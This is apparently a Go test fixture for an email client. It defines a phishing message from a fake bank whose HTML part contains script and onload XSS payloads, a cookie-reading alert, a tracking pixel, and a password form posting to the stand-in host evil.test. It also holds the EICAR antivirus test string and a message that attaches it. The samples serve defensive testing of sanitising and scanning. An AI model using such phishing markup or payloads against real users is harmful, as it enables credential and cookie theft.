package console

// hostileMail acts in all ways that a page can, with a picture and a file.
const hostileMail = "From: \"Accounts\" <billing@bank.example>\r\nTo: bob@example.com\r\nSubject: Your account is locked\r\nDate: Sun, 29 Nov 2026 21:00:00 +0100\r\nMessage-ID: <1@bank.example>\r\nMIME-Version: 1.0\r\n" +
	"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nDear customer,\r\n\r\nyour account is locked. Click http://evil.test/login to open it again.\r\n\r\nThe bank\r\n--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
	"<html><body onload=\"alert(1)\"><script>alert(document.cookie)</script><h1>The Bank</h1><p style=\"color:red\">Dear customer, your account is <b>locked</b>.</p><p><a href=\"http://evil.test/login\">www.bank.example</a></p><img src=\"http://canary.test/x.gif\" width=1 height=1><img src=\"cid:logo\" alt=\"Logo\"><table border=1><tr><td>Amount</td><td>100 EUR</td></tr></table><form action=\"http://evil.test\"><input name=p type=password></form></body></html>\r\n--a--\r\n" +
	"--b\r\nContent-Type: image/png\r\nContent-ID: <logo>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC\r\n" +
	"--b\r\nContent-Type: application/octet-stream; name=\"notes.txt\"\r\nContent-Disposition: attachment; filename=\"notes.txt\"\r\n\r\nsome notes\r\n--b--\r\n"

// eicar is the test virus, as it is spelt in no file.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR` + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

// infectedMail has the test virus as a file.
const infectedMail = "From: eve@example.net\r\nTo: bob@example.com\r\nSubject: a file\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
	"--b\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n--b\r\nContent-Type: application/octet-stream; name=a.txt\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\n" +
	eicar + "\r\n--b--\r\n"
